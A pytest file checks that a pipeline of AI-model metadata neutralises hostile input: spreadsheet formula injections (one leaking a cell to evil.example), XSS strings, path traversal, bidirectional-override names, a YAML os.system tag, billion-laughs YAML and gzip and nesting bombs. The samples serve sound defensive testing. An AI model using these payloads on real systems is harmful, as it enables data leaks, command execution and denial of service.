"""Hostile input: formulas, markup, paths, invisible characters, huge and nested documents, bombs.

Policy tested here (documented in the modules):
- Registry (our own YAML): invalid UTF-8, control characters (also as YAML escapes like
  "\\0"), bidirectional overrides, Python tags and aliases are refused with
  RegistryError naming the file and line.
- Live sources (third parties): invalid UTF-8 is decoded as U+FFFD; control characters
  and bidirectional overrides are removed (`pipeline.collect.observations_frame`).
- CSV outputs: formula-leading text cells get a leading apostrophe (`pipeline.io`).
- HTML report: every value escaped. Extraction: HTML deeper than MAX_HTML_DEPTH refused.
"""

from __future__ import annotations

import csv
import json
import re
import signal
import subprocess
import sys
import textwrap
import time
from contextlib import contextmanager
from pathlib import Path

import pandas as pd
import pytest
import yaml
from bs4 import BeautifulSoup
from markdown_it import MarkdownIt

from pipeline import crosscheck, diff, extract, merge, release, report, trends, units, validate
from pipeline.io import FORMULA_PREFIXES, write_csv, write_json
from pipeline.sources import epoch, registry, wikipedia
from tests.conftest import REPO, VALIDATE_PARAMS
from tests.httpserver import LoopbackServer, Route, gzip_bomb
from tests.test_merge import PARAMS as MERGE_PARAMS
from tests.test_report import REPORT_PARAMS, TREND_PARAMS, page_markup

MEGABYTE_NAME = "L" * 1_000_000
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "'=already quoted"]
MARKUP = ['<script>alert("x")</script>', "<img src=x onerror=alert(1)>", "javascript:alert(1)",
          '"><svg onload=alert(1)>', "--><script>alert(2)</script><!--"]
PATHS = ["../../etc/passwd", "..\\..\\windows\\system32", "/absolute/path", "a/b/../../c"]
# Names that are markup in Markdown (summary.md, CHANGELOG.md): a cell boundary, code, a link, a list, a heading,
# emphasis, an entity; and a line break, which ends a table row or a list item.
MARKDOWN = ["a|b", "back`tick`s", "[x](javascript:alert(1))", "- not a list", "1. not a list", "# not a heading",
            "**not bold**", "&lt;b&gt;entity&lt;/b&gt;", "two\nlines"]
HOSTILE_TEXT = FORMULAS + MARKUP + MARKDOWN + PATHS + ["Mirror\u202egnp.exe", "Isolate\u2066x\u2069"]
# One of each kind, for the outputs tested one by one below (the list, then Markdown's).
OUTPUT_NAMES = ["<script>alert(1)</script>", FORMULAS[0], *MARKDOWN]
# What the registry accepts (it refuses control characters and bidirectional overrides).
REGISTRY_TEXT = [text for text in HOSTILE_TEXT if not registry.HIDDEN_CHARACTERS.search(text)]
WIKI_CAPTION = "List of large language models"


# A guard against hangs, not a speed test (speed belongs in `make bench`): each bounded
# case takes at most ~6 s alone on the 2-core machine, and a busy CI machine must not fail it.
HANG_GUARD_S = 60


@contextmanager
def time_limit(seconds: int = HANG_GUARD_S):
    """Fail instead of hanging (pytest-timeout is not installed)."""
    def expire(*_):
        raise TimeoutError(f"took more than {seconds} s")
    previous = signal.signal(signal.SIGALRM, expire)
    signal.alarm(seconds)
    try:
        yield
    finally:
        signal.alarm(0)
        signal.signal(signal.SIGALRM, previous)


def _entry(position: int, name: str, notes: str | None = None) -> dict:
    return {"name": name, "organization": "Org", "publication_date": f"{2000 + position % 20}-03-04",
            "domain": "Language", "params_total": 1e9 * (position + 1), "training_tokens": 2e10 * (position + 1),
            "mmlu": 30.0 + position % 60, "open_weights": True, "url": f"https://example.org/{position}",
            "evidence": {"params_total": "p", "training_tokens": "t", "mmlu": "m"}, "notes": notes or name}


def _write_registry(directory: Path, entries: list[dict], name: str = "hostile.yaml") -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    path = directory / name
    path.write_text(yaml.safe_dump({"models": entries}, allow_unicode=True, width=10**9), encoding="utf-8")
    return path


def _epoch_csv(names: list[str]) -> str:
    years = [2000 + position % 25 for position in range(len(names))]
    rows = pd.DataFrame({"Model": names, "Domain": "Language", "Publication date": [f"{year}-02-03" for year in years],
                         "Parameters": [f"{10 ** (6 + (year - 2000) / 5):g}" for year in years],
                         "Training compute (FLOP)": [f"{10 ** (18 + (year - 2000) / 4):g}" for year in years],
                         "Notes": names})
    return rows.to_csv(index=False, quoting=csv.QUOTE_ALL)  # pandas leaves a bare "\r" unquoted


def _wikipedia_page(rows: str) -> str:
    return (f'<h2>2024</h2><table class="wikitable"><caption>{WIKI_CAPTION}</caption>'
            f"<tr><th>Name</th><th>Number of parameters (billion)</th><th>Release date</th></tr>{rows}</table>")


def _assert_formulas_neutralised(path: Path) -> int:
    """Every text cell of the CSV that a spreadsheet would run starts with an apostrophe; returns how many."""
    frame = pd.read_csv(path, dtype=str, keep_default_na=False)
    quoted = 0
    for cell in frame.to_numpy().ravel():
        assert not cell.startswith(FORMULA_PREFIXES) or re.fullmatch(r"-?\d[\d.e+-]*", cell), (path.name, cell)
        quoted += cell.startswith("'")
    return quoted


# -- the whole chain: parsers → validate → merge → CSV and report -------------------------------------


@pytest.fixture(scope="module")
def hostile_chain(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    _write_registry(root / "registry", [_entry(i, text) for i, text in enumerate(REGISTRY_TEXT)])
    sources = {
        "registry": registry.parse({"path": str(root / "registry")}),
        "epoch": epoch.observations_from_csv(_epoch_csv(HOSTILE_TEXT + ["Nul\x00Byte"]), "epoch.csv", "https://e.example")[0],
        "wikipedia": wikipedia.observations_from_page(
            _wikipedia_page("".join(f"<tr><td>{text.replace('<', '&lt;')}</td><td>7</td></tr>" for text in HOSTILE_TEXT)),
            "https://w.example", "page.html"),
    }
    observations = pd.concat(list(sources.values()), ignore_index=True)
    result = validate.validate_observations(observations, VALIDATE_PARAMS)
    merged = merge.merge_observations(result.valid, MERGE_PARAMS)
    out = root / "out"
    for name, frame in [("quarantine", result.quarantined), *merged.items()]:
        write_csv(out / f"{name}.csv", frame)
    metrics, frontier = trends.compute_metrics(merged["models"], TREND_PARAMS)
    report.build_report(merged["models"], json.loads(json.dumps(metrics)), frontier, result.summary,
                        REPORT_PARAMS, out / "reports")
    return {"sources": sources, "result": result, "merged": merged, "out": out}


def test_every_hostile_observation_is_counted(hostile_chain):
    """Hostile: formulas, markup, Markdown, paths and invisible characters as model names in the registry, Epoch
    and Wikipedia → every observation is accounted for: a model of models.csv, merged into one, or quarantined;
    none lost
    """
    sources, result, merged = hostile_chain["sources"], hostile_chain["result"], hostile_chain["merged"]
    assert {name: len(frame) for name, frame in sources.items()} == {
        "registry": len(REGISTRY_TEXT), "epoch": len(HOSTILE_TEXT) + 1, "wikipedia": len(HOSTILE_TEXT)}
    observed = sum(len(frame) for frame in sources.values())
    matches = merged["matches"]
    merged_duplicates = int((matches["rule"] != "new_model").sum())
    assert len(matches) == len(result.valid)
    assert observed == len(merged["models"]) + merged_duplicates + len(result.quarantined)


def test_csv_outputs_neutralise_formula_cells(hostile_chain):
    """Hostile: a name that is a spreadsheet formula (=, +, -, @, tab, carriage return) in every published CSV →
    written with a leading apostrophe (one more when it already starts with one, so it stays reversible);
    numbers untouched
    """
    quoted = {path.name: _assert_formulas_neutralised(path) for path in sorted(hostile_chain["out"].glob("*.csv"))}
    assert quoted["models.csv"] >= len(FORMULAS) and quoted["matches.csv"] >= len(FORMULAS)
    models = pd.read_csv(hostile_chain["out"] / "models.csv", dtype=str)
    assert "'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")" in set(models["name"])
    assert "''=already quoted" in set(models["name"]), "an apostrophe already there gets one more: reversible"


def test_report_escapes_every_hostile_name(hostile_chain):
    """Hostile: the same names through the whole pipeline into reports/index.html (figures, table of models) → data
    the page's script sets as text: no <script> but the page's own, no <img> or javascript: URL in the page
    """
    page = (hostile_chain["out"] / "reports" / "index.html").read_text(encoding="utf-8")
    strings = json.loads(re.search(r'<script type="application/json" id="strings">(.*?)</script>', page, re.DOTALL)[1])
    assert '<script>alert("x")</script>' in strings  # names reach the page as data, which its script sets as text
    markup = page_markup(page)  # the page's scripts are ours only, its JSON holds no '<'
    assert "<script" not in markup.lower() and "<img" not in markup.lower()
    assert not re.search(r"""(href|src|on\w+)\s*=\s*["']?\s*javascript:""", markup, re.IGNORECASE)


def test_live_sources_lose_invisible_characters_and_ids_stay_ascii_slugs(hostile_chain):
    """Hostile: control characters, NUL and bidirectional overrides in names from a live source → removed; every
    model_id an ASCII slug
    """
    for frame in hostile_chain["sources"].values():
        assert frame["model_id"].str.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*").all()
    for name in ("epoch", "wikipedia"):
        text = " ".join(hostile_chain["sources"][name]["name"].dropna())
        assert not re.search("[\x00\u202a-\u202e\u2066-\u2069]", text)
    assert "NulByte" in set(hostile_chain["sources"]["epoch"]["name"])


def test_pipeline_writes_only_into_its_output_folders(tmp_path, monkeypatch):
    """parse → validate → merge through their command lines, in a repository-shaped folder.

    Hostile: path-like names (../../etc/passwd, absolute and Windows paths) through parse, validate and merge →
    files written only under processed/ and reports/, no temporary file left
    """
    (tmp_path / "params.yaml").write_text((REPO / "params.yaml").read_text(encoding="utf-8"), encoding="utf-8")
    _write_registry(tmp_path / "raw" / "registry", [_entry(i, text) for i, text in enumerate(REGISTRY_TEXT)])
    name_map = Path("raw/registry/crosscheck/name_map.yaml")
    (tmp_path / name_map).parent.mkdir(parents=True)
    (tmp_path / name_map).write_bytes((REPO / name_map).read_bytes())
    monkeypatch.chdir(tmp_path)
    before = {p for p in tmp_path.rglob("*") if p.is_file()}
    from pipeline import parse

    parse.main(["--out-dir", "processed/observations", "--counts", "processed/observation_counts.json"])
    validate.main(["--observations", "processed/observations", "--valid", "processed/valid.parquet",
                   "--quarantine", "processed/quarantine.csv", "--summary", "reports/validation.json"])
    merge.main(["--valid", "processed/valid.parquet", "--models-csv", "processed/models.csv", "--models-parquet",
                "processed/models.parquet", "--provenance", "processed/provenance.csv", "--matches",
                "processed/matches.csv", "--conflicts", "processed/conflicts.csv"])
    written = {p.relative_to(tmp_path).parts[0] for p in tmp_path.rglob("*") if p.is_file() and p not in before}
    assert written == {"processed", "reports"}
    assert not list(tmp_path.rglob("*.tmp"))
    assert len(pd.read_csv("processed/models.csv")) == len(REGISTRY_TEXT)


# -- every output format, one by one: the names are shown as they are, and nothing of theirs runs -----


def _one_line(text: str) -> str:
    return " ".join(text.split())


def _unquoted(cell: str) -> str:
    """A CSV cell as the source wrote it: one apostrophe of formula neutralising removed (see pipeline.io)."""
    return re.sub(r"^'(?='*[=+\-@\t\r])", "", cell)


def assert_inert_html(page: str, names: list[str]) -> None:
    """No script, event handler or javascript: URL; every name is there as text."""
    soup = BeautifulSoup(page_markup(page), "html.parser")  # the page's own scripts only, taken out
    assert soup.find_all("script") == []
    for tag in soup.find_all(True):
        for attribute, value in tag.attrs.items():
            assert not attribute.lower().startswith("on") and "javascript:" not in str(value).lower(), tag.name
    text = _one_line(soup.get_text(" "))
    assert [name for name in names if _one_line(name) not in text] == []


# Markdown a name could open, and which none of the outputs below writes itself.
FOREIGN_MARKDOWN = {"html_block", "html_inline", "link_open", "em_open", "strong_open", "s_open", "ordered_list_open",
                    "hr", "blockquote_open", "fence", "code_block"}


def assert_inert_markdown(text: str, names: list[str], times: int) -> None:
    """Read as GitHub reads it (CommonMark, tables, strikethrough): no HTML, link, emphasis, ordered list,
    rule, quote or code block, no image but our figures, and every name is the literal text of at least
    `times` paragraphs, list items or table cells (a name read as markup loses its characters)."""
    tokens = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(text)
    children = [child for token in tokens for child in token.children or []]
    assert {token.type for token in tokens + children} & FOREIGN_MARKDOWN == set()
    assert all(child.attrs["src"].startswith("figures/") for child in children if child.type == "image")
    shown = [_one_line("".join(child.content for child in token.children if child.type == "text"))
             for token in tokens if token.type == "inline"]
    assert {name: sum(_one_line(name) in line for line in shown) for name in names} == dict.fromkeys(names, times)


@pytest.fixture(scope="module")
def hostile_report(tmp_path_factory):
    """A report whose conflicts and release changes list a model of every hostile name."""
    from tests.test_report import _models

    models = _models()
    models.loc[: len(OUTPUT_NAMES) - 1, "name"] = OUTPUT_NAMES
    fields = ["params_total"] * 5 + ["publication_date"] * 5 + ["mmlu"] * 5  # the report shows 5 per field
    conflicts = pd.DataFrame([
        {"model_id": model_id, "name": "(from models)", "field": field, "difference": 1.0 + position,
         "chosen_source": "registry", "chosen_value": "2020-01-01" if field == "publication_date" else "7e9",
         "values": "epoch=2020-02-10 | registry=2020-01-01" if field == "publication_date" else "epoch=1e10 | registry=7e9"}
        for position, (model_id, field) in enumerate(zip(models["model_id"], fields[:len(OUTPUT_NAMES)]))])
    changes = _hostile_changes()
    metrics, frontier = trends.compute_metrics(models, TREND_PARAMS)
    validation = {"input_rows": 40, "valid_rows": 40, "quarantined_rows": 0, "by_source": {}, "failed_checks": {},
                  "flags": {}}
    out = tmp_path_factory.mktemp("hostile-report")
    report.build_report(models, json.loads(json.dumps(metrics)), frontier, validation, REPORT_PARAMS, out,
                        changes={"release": "v2026.12.0", "changes": changes}, conflicts=conflicts)
    return out


def _hostile_changes() -> dict:
    """A release's changes: models of every hostile name added, removed, and renamed to it."""
    def table(rows: list[tuple[str, str]]) -> pd.DataFrame:
        text = pd.DataFrame(rows, columns=["model_id", "name"]).assign(params_total="7e9").to_csv(index=False)
        return diff.parse_table(text, "table")

    old = table([(f"renamed-{i:02d}", f"Model {i}") for i in range(len(OUTPUT_NAMES))]
                + [(f"removed-{i:02d}", name) for i, name in enumerate(OUTPUT_NAMES)] + [("tick`id", "Ticked")])
    new = table([(f"renamed-{i:02d}", name) for i, name in enumerate(OUTPUT_NAMES)]
                + [(f"added-{i:02d}", name) for i, name in enumerate(OUTPUT_NAMES)])
    return diff.compare(old, new, "v2026.11.0", "v2026.12.0")


def test_report_html_shows_every_hostile_name_as_text(hostile_report):
    """Hostile: model names holding HTML, a formula, Markdown or a line break, in index.html (conflicts,
    release changes) → escaped: shown as the text they are, no script, event handler or javascript: URL
    """
    assert_inert_html((hostile_report / "index.html").read_text(encoding="utf-8"), OUTPUT_NAMES)


def test_summary_markdown_shows_every_hostile_name_as_text(hostile_report):
    """Hostile: the same names in reports/summary.md → escaped: each name is the literal text of its table
    cell, no HTML, link, list, heading or emphasis of theirs, no row cut by a pipe or line break
    """
    assert_inert_markdown((hostile_report / "summary.md").read_text(encoding="utf-8"), OUTPUT_NAMES, times=1)


def test_changelog_shows_every_hostile_name_as_text():
    """Hostile: the same names, and a model_id holding a backtick, in the data changelog (CHANGELOG.md,
    `python -m pipeline.diff`) → escaped: every name the literal text of its list item, model_ids whole code
    spans
    """
    section = release.release_section("v2026.12.0", "2026-12-01", _hostile_changes())
    assert_inert_markdown(section, OUTPUT_NAMES, times=4)  # added, removed, renamed (its label and its new name)
    tokens = MarkdownIt("commonmark").parse(section)
    codes = {child.content for token in tokens for child in token.children or [] if child.type == "code_inline"}
    assert {"tick`id", "added-00", "renamed-00", "removed-00"} <= codes


def test_changes_json_and_diff_json_keep_every_hostile_name_exactly(tmp_path, capsys):
    """Hostile: the same names in reports/changes.json (make release) and `python -m pipeline.diff --json`
    → valid JSON that reads back as exactly the names written, line breaks and all
    """
    changes = _hostile_changes()
    write_json(tmp_path / "changes.json", {"release": "v2026.12.0", "changes": changes})
    written = json.loads((tmp_path / "changes.json").read_text(encoding="utf-8"))["changes"]
    assert [entry["name"] for entry in written["added"]] == OUTPUT_NAMES
    assert [entry["fields"][0]["new"] for entry in written["changed"]] == OUTPUT_NAMES

    table = pd.DataFrame({"model_id": [f"m-{i:02d}" for i in range(len(OUTPUT_NAMES))], "name": OUTPUT_NAMES})
    table.to_csv(tmp_path / "new.csv", index=False)
    table.head(0).to_csv(tmp_path / "old.csv", index=False)
    diff.main([str(tmp_path / "old.csv"), str(tmp_path / "new.csv"), "--json"])
    assert [entry["name"] for entry in json.loads(capsys.readouterr().out)["added"]] == OUTPUT_NAMES


def test_crosscheck_csv_neutralises_formulas_and_keeps_names(tmp_path):
    """Hostile: registry and Epoch names that are spreadsheet formulas or markup, through
    `python -m pipeline.crosscheck` → reports/crosscheck.csv quotes every formula cell with an apostrophe,
    and every name reads back exactly once that apostrophe is removed
    """
    _write_registry(tmp_path / "registry", [_entry(i, text) for i, text in enumerate(REGISTRY_TEXT)])
    (tmp_path / "epoch.csv").write_text(_epoch_csv(REGISTRY_TEXT), encoding="utf-8")
    out = tmp_path / "crosscheck.csv"
    crosscheck.main(["--epoch", str(tmp_path / "epoch.csv"), "--registry", str(tmp_path / "registry"),
                     "--name-map", str(tmp_path / "none.yaml"), "--exceptions", str(tmp_path / "none.yaml"),
                     "--out", str(out)])
    assert _assert_formulas_neutralised(out) >= len(FORMULAS)
    written = pd.read_csv(out, dtype=str, keep_default_na=False)
    assert len(written) >= len(FORMULAS)
    stripped = {text.strip() for text in REGISTRY_TEXT}  # both readers strip names
    assert set(written["epoch_name"].map(_unquoted)) <= stripped
    assert {formula.strip() for formula in FORMULAS} <= set(written["name"].map(_unquoted)) <= stripped


# -- the registry refuses what a curator must fix --------------------------------------------------------


@pytest.mark.parametrize("name, problem", [
    ('"Nul\\0Byte"', "U+0000"), ('"Bell\\aRing"', "U+0007"), ('"Mirror\\u202Egnp.exe"', "U+202E"),
    ("!!python/object/apply:os.system ['echo pwned']", "could not determine a constructor"),
    ("!!python/name:os.system", "could not determine a constructor"),
])
def test_registry_refuses_hidden_characters_and_python_tags(tmp_path, name, problem):
    """Hostile: a registry name with a control character or bidirectional override (raw or as a YAML escape), or a
    !!python tag → RegistryError naming the file and line
    """
    path = tmp_path / "2023.yaml"
    path.write_text(f"models:\n  - name: {name}\n    domain: Language\n", encoding="utf-8")
    with pytest.raises(registry.RegistryError, match=rf"{re.escape(str(path))}:2: .*{re.escape(problem)}"):
        registry.read_file(path)


def test_registry_refuses_invalid_utf8_and_raw_nul_naming_the_file(tmp_path):
    """Hostile: a registry file with invalid UTF-8 or a raw NUL byte → RegistryError naming the file"""
    for body in (b"models:\n  - name: Bad \xff\xfe\n", b"models:\n  - name: Raw \x00 nul\n"):
        path = tmp_path / "bad.yaml"
        path.write_bytes(body)
        with pytest.raises(registry.RegistryError, match=re.escape(str(path))):
            registry.read_file(path)


def test_registry_refuses_billion_laughs_quickly(tmp_path):
    """Hostile: a registry file of nested YAML aliases (billion laughs) → refused at once (no aliases in the
    registry), naming the file and line
    """
    levels = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    levels += [f"{chr(98 + i)}: &{chr(98 + i)} [{','.join([f'*{chr(97 + i)}'] * 9)}]" for i in range(8)]
    path = tmp_path / "bomb.yaml"
    path.write_text("\n".join(levels) + "\nmodels: [*i]\n", encoding="utf-8")
    started = time.monotonic()
    with pytest.raises(registry.RegistryError, match=r"bomb.yaml:2: malformed YAML: YAML aliases"):
        registry.read_file(path)
    assert time.monotonic() - started < HANG_GUARD_S  # expanded, the aliases would take far longer


def test_megabyte_names_and_notes_parse_in_bounded_time(tmp_path):
    """Hostile: a 1 MB model name or note in the registry, an Epoch CSV, a Wikipedia table or an announcement →
    parsed in bounded time; the unit parser refuses it as too long
    """
    _write_registry(tmp_path / "registry", [_entry(0, MEGABYTE_NAME, notes=MEGABYTE_NAME)])
    with time_limit():
        assert registry.parse({"path": str(tmp_path / "registry")})["name"].str.len().tolist() == [1_000_000]
        frame, _ = epoch.observations_from_csv(_epoch_csv([MEGABYTE_NAME]), "epoch.csv", "https://e.example")
        assert len(frame) == 1
        page = _wikipedia_page(f"<tr><td>{MEGABYTE_NAME}</td><td>7</td></tr>")
        assert len(wikipedia.observations_from_page(page, "https://w.example", "page.html")) == 1
        assert isinstance(extract.extract(f"# Foo 7B\n\nFoo 7B has 7B parameters. {MEGABYTE_NAME}\n"), list)
        with pytest.raises(units.UnitParseError, match="too long"):
            units.parse_quantity(MEGABYTE_NAME)


@pytest.mark.parametrize("document", [
    pytest.param("<div>" * 100_000 + "Foo 7B has 7B parameters." + "</div>" * 100_000, id="100k-nested-divs"),
    pytest.param("<table><tr><td>" * 30_000, id="30k-nested-tables"),
])
def test_deeply_nested_html_is_refused_quickly(document):
    """Hostile: HTML nested 100,000 divs or 30,000 tables deep, given to the extractor or the Wikipedia parser →
    refused quickly as nested too deep (DocumentTooComplex, ContentError)
    """
    with time_limit():
        with pytest.raises(extract.DocumentTooComplex, match="nested more than"):
            extract.extract(document, content_type="text/html")
        with pytest.raises(wikipedia.ContentError, match="nested more than"):
            wikipedia.observations_from_page(document, "https://w.example", "page.html")


@pytest.mark.parametrize("document", [
    pytest.param("<p>x</p>" * 50_000, id="50k-paragraphs"),
    pytest.param("```" * 300_000 + "x", id="unclosed-code-fences"),
    pytest.param("text <!--" * 250_000, id="unclosed-comments"),
    pytest.param("[" * 300_000 + "](" * 300_000, id="link-brackets"),
    pytest.param("1" * 1_000_000, id="digit-run"),
    pytest.param("The model has 7B parameters and " * 30_000, id="megabyte-sentence"),
])
def test_pathological_documents_are_read_in_bounded_time(document):
    """Hostile: announcements built to be slow (50,000 paragraphs, unclosed code fences or comments, 300,000
    brackets, a million-digit run, a megabyte sentence) → read in bounded time
    """
    with time_limit():
        assert isinstance(extract.extract(document, content_type="text/html" if document[0] == "<" else None), list)


def test_wikipedia_span_bomb_stays_small():
    """Hostile: a Wikipedia table whose cells span 100,000 rows and columns → spans capped: one observation per
    row, quickly
    """
    page = _wikipedia_page('<tr><td rowspan="100000" colspan="100000">x</td><td>7</td></tr>' * 200)
    with time_limit():
        rows = wikipedia.observations_from_page(page, "https://w.example", "page.html")
    assert len(rows) == 200


# -- network bombs, measured in a fresh interpreter ------------------------------------------------------

FETCH_IN_SUBPROCESS = textwrap.dedent("""
    import resource, sys, time
    from pipeline.http import Fetcher, FetchPolicy, TooLarge
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    started = time.monotonic()
    policy = FetchPolicy(allowed_hosts=("127.0.0.1",), max_bytes=1_000_000, min_interval_s=0, retries=0)
    try:
        Fetcher(policy).get(sys.argv[1])
        print("ACCEPTED")
    except TooLarge as error:
        print("REFUSED", error)
    print("GROWTH_MB", (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024)
    print("SECONDS", time.monotonic() - started)
""")


@pytest.mark.parametrize("route", [
    pytest.param(Route(body=gzip_bomb(2_000_000_000), headers={"Content-Encoding": "gzip"}), id="gzip-bomb-2GB"),
    pytest.param(Route(body=b"x" * 300_000_000, declared_length=0), id="endless-body-no-length"),
], )
def test_bombs_from_the_server_are_cut_with_bounded_memory_and_time(route):
    """Hostile: a 2 GB gzip bomb from a server → cut at the size cap (TooLarge), memory growth under 200 MB

    Hostile: an endless body without Content-Length → cut at the size cap, in bounded time and memory
    """
    if route.declared_length == 0:  # no Content-Length to refuse up front: the body just keeps coming
        route = Route(body=route.body, headers={"Transfer-Encoding": "identity"})
    with LoopbackServer({"/page": route}) as server:
        result = subprocess.run([sys.executable, "-c", FETCH_IN_SUBPROCESS, server.url("/page")], cwd=REPO,
                                capture_output=True, text=True, timeout=60)
    report_lines = dict(line.split(" ", 1) for line in result.stdout.splitlines())
    assert "REFUSED" in report_lines and "cap of 1000000 bytes" in report_lines["REFUSED"], result.stdout + result.stderr
    assert float(report_lines["GROWTH_MB"]) < 200
    assert float(report_lines["SECONDS"]) < HANG_GUARD_S / 2  # the child itself is killed at 60 s


# -- bugs in modules other engineers own -----------------------------------------------------------------


def test_report_survives_mathtext_in_names(tmp_path):
    """Hostile: a model name that is broken mathtext (an unclosed `$…{$`) on a figure label → the report
    is still built
    """
    from tests.test_report import _models

    models = _models()
    models.loc[38, "name"] = r"$\frac{1}{$"  # a labelled point: open, Language, among the best MMLU
    metrics, frontier = trends.compute_metrics(models, TREND_PARAMS)
    report.build_report(models, json.loads(json.dumps(metrics)), frontier,
                        {"input_rows": 40, "valid_rows": 40, "quarantined_rows": 0, "by_source": {},
                         "failed_checks": {}, "flags": {}}, REPORT_PARAMS, tmp_path)


def test_megabyte_name_is_quarantined():
    """Hostile: a 1 MB model name → quarantined by validate, never published"""
    row = registry.entry_to_observation({**_entry(0, MEGABYTE_NAME), "__line__": 1}, "hostile.yaml:1")
    result = validate.validate_observations(pd.DataFrame([row]), VALIDATE_PARAMS)
    assert len(result.quarantined) == 1


def test_epoch_snapshot_with_invalid_utf8_is_cleaned(tmp_path):
    """Hostile: an Epoch snapshot with invalid UTF-8 → the bad bytes read as U+FFFD, the row kept"""
    folder = tmp_path / "epoch" / "2026-01-01"
    folder.mkdir(parents=True)
    (folder / "all_ai_models.csv").write_bytes(_epoch_csv(["Bad \xff"]).encode("latin-1"))
    (folder / "metadata.json").write_text(json.dumps({"url": "https://e.example",
                                                      "files": [{"path": "all_ai_models.csv"}]}))
    observations = epoch.parse({"path": str(tmp_path / "epoch"), "as_of": "2026-11-22"})
    assert list(observations["name"]) == ["Bad \ufffd"]  # third-party text: bad bytes become U+FFFD
